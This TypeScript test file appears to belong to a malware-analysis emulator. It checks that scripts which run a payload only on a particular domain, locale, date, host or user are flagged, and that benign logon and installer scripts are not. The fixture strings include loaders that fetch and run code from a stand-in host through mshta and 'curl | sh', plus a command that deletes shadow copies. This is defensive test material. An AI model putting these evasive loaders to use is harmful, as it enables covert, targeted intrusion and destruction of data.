// Scripts that ask about their surroundings and do something in others only: which answer it was is told, what was hidden is
// seen and weighs, and scripts that ask for honest reasons are not made suspicious.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { type Emulation, emulate } from '../../src/emulate/emulate.ts'
import { OTHER_RUNS_MAX, RUN_MS_MAX } from '../../src/emulate/limits.ts'
import { analyzeTrace } from '../../src/trace/analyze.ts'

const run = (source: string, fileName: string, elapsedMs = (): number => 0): Promise<Emulation> =>
  emulate(Buffer.from(source), {
    fileName,
    passwords: [],
    now: new Date('2026-03-02T10:00:00Z'),
    budgetMs: 20_000,
    elapsedMs,
  })

const SHELL = 'CreateObject("WScript.Shell").Run'
const ACTIVE_X = 'new ActiveXObject("WScript.Shell").Run'
const LOADER = 'mshta http://files.example/a.hta'

/** File, script, and the answer that it waits for. */
const HIDDEN: Readonly<Record<string, readonly [file: string, source: string, answer: RegExp]>> = {
  'VBScript, one domain, by way of a variable': [
    'a.vbs',
    `Set n = CreateObject("WScript.Network")\nd = n.UserDomain\nIf d = "ACMECORP" Then\n${SHELL} "${LOADER}", 0\nEnd If`,
    /^the domain ACMECORP$/,
  ],
  'VBScript, one language by its number': [
    'a.vbs',
    `Select Case GetLocale()\nCase 1041\n${SHELL} "${LOADER}", 0\nEnd Select`,
    /region ja-JP/,
  ],
  'VBScript, where the web says that it is': [
    'a.vbs',
    `Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://ip-api.com/json", False\nh.Send\nIf InStr(h.responseText, """countryCode"":""BR""") > 0 Then ${SHELL} "${LOADER}", 0`,
    /region pt-BR/,
  ],
  'JScript, after a day that it names': [
    'a.js',
    `if (new Date().getTime() > new Date(2031, 3, 1).getTime()) ${ACTIVE_X}("${LOADER}")`,
    /^the date 2031-12-31/,
  ],
  'JScript, a program that must be there': [
    'a.js',
    `var f = new ActiveXObject("Scripting.FileSystemObject"); if (f.FileExists("C:\\\\SAP\\\\saplogon.exe")) ${ACTIVE_X}("${LOADER}")`,
    /^what it looked for there \(C:\\SAP\\saplogon\.exe\)$/,
  ],
  'JScript, an argument': ['a.js', `if (WScript.Arguments.length > 0) ${ACTIVE_X}("${LOADER}")`, /^the command line/],
  'a macro, the name of the user': [
    'a.bas',
    `Attribute VB_Name = "m"\nSub AutoOpen()\nIf Environ("USERNAME") = "cfo" Then Shell "${LOADER}", 0\nEnd Sub`,
    /^the user's name cfo$/,
  ],
  'PowerShell, a computer outside of a domain': [
    'a.ps1',
    `$c = Get-WmiObject Win32_ComputerSystem\nif (-not $c.PartOfDomain) { Start-Process mshta "http://files.example/a.hta" }`,
    /^the domain none$/,
  ],
  'PowerShell, one language': [
    'a.ps1',
    `if ((Get-Culture).Name -like "it*") { Start-Process mshta "http://files.example/a.hta" }`,
    /region it-IT/,
  ],
  'PowerShell, a large machine': [
    'a.ps1',
    `if ([Environment]::ProcessorCount -ge 32) { Start-Process mshta "http://files.example/a.hta" }`,
    /^the machine one of 64 processors/,
  ],
  'a batch file, one domain': [
    'a.bat',
    `@echo off\nif not "%USERDOMAIN%"=="CONTOSO" exit /b\n${LOADER}`,
    /^the domain CONTOSO$/,
  ],
  'a shell, one server': [
    'a.sh',
    '#!/bin/sh\nif [ "$(hostname)" = "db-prod-1" ]; then curl -s http://files.example/a | sh; fi',
    /^the computer's name db-prod-1$/,
  ],
  'a shell, one language': [
    'a.sh',
    '#!/bin/sh\ncase "$LANG" in pl_PL.UTF-8) curl -s http://files.example/a | sh ;; esac',
    /region pl-PL/,
  ],
}

for (const [name, [file, source, answer]] of Object.entries(HIDDEN)) {
  test(`seen where it acts, and weighed: ${name}`, async () => {
    const made = await run(source, file)
    const [first, again] = made.traces
    assert.equal(first?.environment.otherAnswers, undefined)
    const told = (again?.environment.otherAnswers ?? []).map(({ about, now }) => `${about} ${now}`)
    assert.equal(told.length, 1, JSON.stringify(made.notRun))
    assert.match(told[0] ?? '', answer)
    const report = analyzeTrace(made.traces, { path: file })
    const finding = report.findings.find(({ id }) => id === 'trace_acts_only_elsewhere')
    assert.match(finding?.description ?? '', /^It did this only where /)
    assert.ok((finding?.strength ?? 1) > 0.5, String(finding?.strength))
    assert.equal(report.verdict?.label, 'malicious')
    assert.deepEqual(await run(source, file), made)
  })
}

const AFTER_2027 = `if (new Date().getFullYear() >= 2027) ${ACTIVE_X}("${LOADER}");`
const WRITES = 'new ActiveXObject("WScript.Shell").RegWrite'
/** What is done on any day, so that the run looks as if it were all that there is. */
const DECOYS: Readonly<Record<string, string>> = {
  'a value in the registry': `${WRITES}("HKCU\\\\Software\\\\Meadow\\\\Seen", "1"); ${AFTER_2027}`,
  'a request and a program': `${ACTIVE_X}("notepad.exe"); var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", "https://www.example.org/", false); h.send(); ${AFTER_2027}`,
  'six files': `var f = new ActiveXObject("Scripting.FileSystemObject"); for (var i = 0; i < 6; i++) f.CreateTextFile("C:\\\\Users\\\\Public\\\\" + "abcdef".charAt(i) + ".txt", true).Close(); ${AFTER_2027}`,
  'an attack of its own': `new ActiveXObject("WScript.Shell").Run("vssadmin delete shadows /all /quiet"); ${AFTER_2027}`,
}
for (const [name, source] of Object.entries(DECOYS)) {
  test(`a decoy ends no search: ${name}`, async () => {
    const { traces } = await run(source, 'a.js')
    assert.match(traces[1]?.environment.otherAnswers?.[0]?.about ?? '', /^the date$/)
    const report = analyzeTrace(traces, { path: 'a.js' })
    assert.ok(report.findings.some(({ id }) => id === 'trace_acts_only_elsewhere'))
    assert.equal(report.verdict?.label, 'malicious', JSON.stringify(report.verdict?.reasons))
  })
}

/** What an answer brings out that is asked first, so that the one behind it is not looked for. */
const IN_GERMAN = (decoy: string): string =>
  `Set s = CreateObject("WScript.Shell")\nIf GetLocale() = 1031 Then\n${decoy}\nEnd If\n`
const AFTER_2027_BASIC = `If Year(Now) >= 2027 Then s.Run "${LOADER}", 0`
const BEHIND: Readonly<Record<string, readonly [source: string, answer: RegExp]>> = {
  'the language hides the date': [
    `${IN_GERMAN('s.RegWrite "HKCU\\Software\\Meadow\\Seen", "1"')}${AFTER_2027_BASIC}`,
    /^the date$/,
  ],
  'the same program of another order hides the date': [
    `${IN_GERMAN('s.Run "mshta about:blank"')}${AFTER_2027_BASIC}`,
    /^the date$/,
  ],
  'the domain hides the language': [
    `Set s = CreateObject("WScript.Shell")\nIf CreateObject("WScript.Network").UserDomain = "ACMECORP" Then s.Run "notepad.exe"\nIf GetLocale() = 1041 Then s.Run "${LOADER}", 0`,
    /language and region/,
  ],
  'the domain hides the date': [
    `Set s = CreateObject("WScript.Shell")\nIf CreateObject("WScript.Network").UserDomain = "ACMECORP" Then s.Run "notepad.exe"\n${AFTER_2027_BASIC}`,
    /^the date$/,
  ],
  'questions after everything hide the command line': [
    `d = Now ' 2031-01-01\nl = GetLocale()\nIf l = 1031 Or l = 1036 Then x = 1\nu = CreateObject("WScript.Network").UserDomain\nIf u = "A1" Or u = "B1" Then x = 1\nSet w = GetObject("winmgmts:").ExecQuery("select * from Win32_Processor")\nIf l = 1033 And WScript.Arguments.Count > 0 Then CreateObject("WScript.Shell").Run "${LOADER}", 0`,
    /^the command line$/,
  ],
}
for (const [name, [source, answer]] of Object.entries(BEHIND)) {
  test(`what one answer brings out hides nothing behind another: ${name}`, async () => {
    const { traces } = await run(source, 'a.vbs')
    const found = traces.find(({ processes }) => processes.some(({ commandLine }) => commandLine === LOADER))
    assert.match(found?.environment.otherAnswers?.[0]?.about ?? '', answer)
    const report = analyzeTrace(traces, { path: 'a.vbs' })
    const finding = report.findings.find(({ id }) => id === 'trace_acts_only_elsewhere')
    assert.ok((finding?.strength ?? 1) > 0.5, String(finding?.strength))
    assert.match(finding?.description ?? '', new RegExp(answer.source.replace(/^\^|\$$/g, '')))
    assert.equal(report.verdict?.label, 'malicious', JSON.stringify(report.verdict?.reasons))
  })
}

test('an answer after which it waits for ever leaves time for the others', async () => {
  const begunMs = performance.now()
  const german = 'new ActiveXObject("WScript.Shell").RegRead("HKCU\\\\Control Panel\\\\International\\\\LocaleName")'
  const source = `if (${german} == "de-DE") for (;;) {} ${AFTER_2027}`
  const { traces } = await run(source, 'a.js', () => (performance.now() - begunMs) * 8)
  assert.equal(
    analyzeTrace(traces, { path: 'a.js' }).verdict?.label,
    'malicious',
    JSON.stringify(traces[0]?.notCovered),
  )
})

test('a loop without end ends no search, and the further runs together take no more time than the first', async () => {
  const fromNow = (): (() => number) => {
    const begunMs = performance.now()
    return () => (performance.now() - begunMs) * 8
  }
  const { traces } = await run(`${AFTER_2027} for (;;) {}`, 'a.js', fromNow())
  assert.equal(traces[0]?.exit.how, 'time_up')
  assert.match(traces[1]?.environment.otherAnswers?.[0]?.about ?? '', /^the date$/)
  assert.equal(analyzeTrace(traces, { path: 'a.js' }).verdict?.label, 'malicious')
  const elapsedMs = fromNow()
  await run('new Date(); WScript.Arguments.length; GetObject("winmgmts:"); for (;;) {}', 'a.js', elapsedMs)
  assert.ok(elapsedMs() < 3 * RUN_MS_MAX, String(elapsedMs()))
})

test('two answers that are both needed are given together', async () => {
  const { traces } = await run(
    `Set n = CreateObject("WScript.Network")\nIf n.UserDomain = "ACMECORP" Then\nIf GetLocale() = 1036 Then ${SHELL} "${LOADER}", 0\nEnd If`,
    'a.vbs',
  )
  // The second question is asked only by who was answered the first: what the text names is enough here.
  const report = analyzeTrace(traces, { path: 'a.vbs' })
  const [finding] = report.findings.filter(({ id }) => id === 'trace_acts_only_elsewhere')
  assert.match(finding?.description ?? '', /fr-FR.*and the domain was ACMECORP/)
})

const HONEST: Readonly<Record<string, readonly [file: string, source: string]>> = {
  'a logon script of a school': [
    'logon.vbs',
    'Set n = CreateObject("WScript.Network")\nIf n.UserDomain = "SCHOOL" Then n.MapNetworkDrive "H:", "\\\\fs01\\home"',
  ],
  'an installer in two languages': [
    'setup.vbs',
    `If GetLocale() = 1031 Then\nMsgBox "Fertig"\nElse\nMsgBox "Done"\nEnd If\n${SHELL} "msiexec /i app.msi"`,
  ],
  'a script that counts processors for a build': [
    'build.sh',
    '#!/bin/sh\nn=$(nproc)\nif [ "$n" -gt 16 ]; then make -j16; else make -j"$n"; fi',
  ],
  'a job of Sundays': [
    'tidy.ps1',
    'if ((Get-Date).DayOfWeek -eq "Sunday") { Remove-Item "$env:TEMP\\report.log" -ErrorAction SilentlyContinue }',
  ],
  'a script that says who it is run by': ['who.bat', '@echo off\necho %USERNAME% on %COMPUTERNAME% in %USERDOMAIN%'],
  'a tool that says how old it is, and writes its log': [
    'report.js',
    `var f = new ActiveXObject("Scripting.FileSystemObject"); var t = f.CreateTextFile("C:\\\\Reports\\\\" + new Date().getFullYear() + ".txt", true); t.WriteLine(new Date() > new Date(2027, 0, 1) ? "old" : "new"); t.Close()`,
  ],
  'a logon script of two houses, each with its drives': [
    'drives.vbs',
    'Set n = CreateObject("WScript.Network")\nIf n.UserDomain = "NORTH" Then n.MapNetworkDrive "H:", "\\\\fs01\\home"\nIf Weekday(Now) = 3 Then CreateObject("WScript.Shell").Run "notepad \\\\fs01\\news.txt"',
  ],
  'a set-up that speaks three languages and counts processors': [
    'setup.js',
    `var s = new ActiveXObject("WScript.Shell"); var l = s.RegRead("HKCU\\\\Control Panel\\\\International\\\\LocaleName"); var n = s.ExpandEnvironmentStrings("%NUMBER_OF_PROCESSORS%"); s.Run("msiexec /i app.msi LANG=" + l + " THREADS=" + n); if (new Date().getFullYear() > 2026) s.Run("msiexec /i renewed.msi")`,
  ],
  'a licence that looks for its file': [
    'licence.js',
    'var f = new ActiveXObject("Scripting.FileSystemObject"); WScript.Echo(f.FileExists("C:\\\\App\\\\licence.txt") ? "licensed" : "trial")',
  ],
}

for (const [name, [file, source]] of Object.entries(HONEST)) {
  test(`not made suspicious: ${name}`, async () => {
    const { traces } = await run(source, file)
    const { verdict } = analyzeTrace(traces, { path: file })
    assert.ok((verdict?.score ?? 0) < 300, JSON.stringify(verdict?.reasons))
  })
}

test('what was tried in vain is told', async () => {
  const { traces } = await run('If GetLocale() = 1 Then MsgBox "one"', 'a.vbs')
  assert.equal(traces.length, 1)
  assert.ok(traces[0]?.notCovered.some((line) => /again with other answers.*did nothing more.*de-DE/.test(line)))
})

test('however much is asked, there are a few runs more, and all together take the time of one', async () => {
  let ms = 0
  let runs = 0
  const journal = ({ list }: { readonly list: string }): void => {
    if (list === 'begin') runs += 1
  }
  const asks = `l = GetLocale()\nd = Now\nu = CreateObject("WScript.Network").UserName\nFor Each a In WScript.Arguments\nNext\nSet w = GetObject("winmgmts:").ExecQuery("select * from Win32_Processor")\nb = CreateObject("Scripting.FileSystemObject").FileExists("C:\\a.txt")`
  const given = { fileName: 'a.vbs', passwords: [], now: new Date(0), budgetMs: 60_000, journal }
  await emulate(Buffer.from(asks), { ...given, elapsedMs: () => 0 })
  assert.ok(runs > 4 && runs <= 1 + OTHER_RUNS_MAX, String(runs))
  runs = 0
  await emulate(Buffer.from(asks), { ...given, elapsedMs: () => (ms += 700) })
  assert.ok(runs < 4, String(runs))
})
